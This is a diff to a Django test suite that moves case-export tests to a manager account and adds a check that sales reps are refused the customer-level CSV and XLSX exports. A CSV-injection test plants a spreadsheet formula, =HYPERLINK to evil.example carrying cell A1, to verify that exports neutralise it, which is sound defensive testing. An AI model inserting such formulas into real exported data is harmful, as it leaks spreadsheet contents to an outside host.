@@ -33,6 +33,16 @@ def rep(client, rep_user):
 
 
 @pytest.fixture
+def manager(manager_user):
+    """A manager's session: the cases exports are customer-level rows (export_customer_rows)."""
+    from django.test import Client
+
+    client = Client()
+    client.force_login(manager_user)
+    return client
+
+
+@pytest.fixture
 def cases(rep_user):
     """Four cases that every sort puts in a different order."""
     now = timezone.now()
@@ -142,7 +152,7 @@ def test_column_headers_sort_both_ways_and_go_back_to_the_first_page(rep, cases)
     assert "bi-caret-up-fill" in head
 
 
-def test_sorting_the_first_view_keeps_its_open_cases(rep, cases):
+def test_sorting_the_first_view_keeps_its_open_cases(rep, manager, cases):
     shown = rep.get(reverse("customers:case_list")).content.decode()
     sorted_page = rep.get(reverse("customers:case_list"), {"sort": "priority"}).content.decode()
     closed = [c.subject for c in cases if c.status not in ("new", "open", "pending")]
@@ -150,13 +160,13 @@ def test_sorting_the_first_view_keeps_its_open_cases(rep, cases):
     for page in (shown, sorted_page):
         table = page.split('data-testid="case-table"')[1].split("</table>")[0]
         assert not any(f">{subject}<" in table for subject in closed)
-    export = rep.get(reverse("customers:case_export"), {"sort": "priority"})
+    export = manager.get(reverse("customers:case_export"), {"sort": "priority"})
     rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
     assert {r["status"] for r in rows} <= {"new", "open", "pending"}
 
 
-def test_the_export_follows_the_page_sort_and_filters(rep, cases):
-    response = rep.get(reverse("customers:case_export"), {"status": ["new", "open", "pending"], "sort": "priority"})
+def test_the_export_follows_the_page_sort_and_filters(manager, cases):
+    response = manager.get(reverse("customers:case_export"), {"status": ["new", "open", "pending"], "sort": "priority"})
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert [r["subject"] for r in rows] == ["Address", "Courier", "Billing"]
 
@@ -164,8 +174,8 @@ def test_the_export_follows_the_page_sort_and_filters(rep, cases):
 # --------------------------------------------------------------------------- exports
 
 
-def test_csv_export_starts_with_a_bom_and_keeps_accents(rep, cases):
-    response = rep.get(reverse("customers:case_export"), {**ALL, "sort": "subject"})
+def test_csv_export_starts_with_a_bom_and_keeps_accents(manager, cases):
+    response = manager.get(reverse("customers:case_export"), {**ALL, "sort": "subject"})
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == f'attachment; filename="cases-{timezone.localdate():%Y-%m-%d}.csv"'
     body = b"".join(response.streaming_content)
@@ -203,8 +213,8 @@ def test_csv_export_starts_with_a_bom_and_keeps_accents(rep, cases):
     assert courier["opened_at"] == cases[2].opened_at.isoformat()
 
 
-def test_xlsx_export_has_the_same_rows(rep, cases):
-    response = rep.get(reverse("customers:case_export_xlsx"), {**ALL, "sort": "subject"})
+def test_xlsx_export_has_the_same_rows(manager, cases):
+    response = manager.get(reverse("customers:case_export_xlsx"), {**ALL, "sort": "subject"})
     assert response.status_code == 200
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert response["Content-Disposition"].endswith('.xlsx"')
@@ -216,13 +226,13 @@ def test_xlsx_export_has_the_same_rows(rep, cases):
 
 
 @pytest.mark.parametrize("export", ["customers:case_export", "customers:case_export_xlsx"])
-def test_exported_text_that_looks_like_a_formula_stays_text(rep, export):
+def test_exported_text_that_looks_like_a_formula_stays_text(manager, export):
     """OWASP CSV injection: free text starting with = + - @ is written with a leading quote; phones stay."""
     customer = CustomerFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="")
     CaseFactory(customer=customer, subject="@SUM(1+1)", topic="-2+3")
     CaseFactory(customer=CustomerFactory(first_name="+5511912345678", last_name=""), subject="-12.5", topic="+4")
 
-    response = rep.get(reverse(export), {**ALL, "sort": "subject"})
+    response = manager.get(reverse(export), {**ALL, "sort": "subject"})
 
     if export.endswith("xlsx"):
         sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
@@ -237,10 +247,19 @@ def test_exported_text_that_looks_like_a_formula_stays_text(rep, export):
     }
 
 
-def test_the_cases_list_links_both_exports_with_its_filters(rep, cases):
-    page = rep.get(reverse("customers:case_list"), {"topic": "x", "sort": "due"}).content.decode()
+def test_the_cases_list_links_both_exports_with_its_filters(manager, cases):
+    page = manager.get(reverse("customers:case_list"), {"topic": "x", "sort": "due"}).content.decode()
     assert f"{reverse('customers:case_export')}?topic=x&amp;sort=due" in page
     assert f"{reverse('customers:case_export_xlsx')}?topic=x&amp;sort=due" in page
+
+
+def test_reps_read_the_cases_list_but_do_not_export_its_customer_rows(rep, cases):
+    """Each row names its customer: the export takes export_customer_rows, as the drill-downs' do."""
+    page = rep.get(reverse("customers:case_list"), {**ALL})
+    assert page.status_code == 200 and "João Conceição" in page.content.decode()
+    assert 'data-testid="csv-export"' not in page.content.decode()
+    assert rep.get(reverse("customers:case_export")).status_code == 403
+    assert rep.get(reverse("customers:case_export_xlsx")).status_code == 403
 
 
 def test_marketer_cannot_export_cases(client, marketer_user, cases):
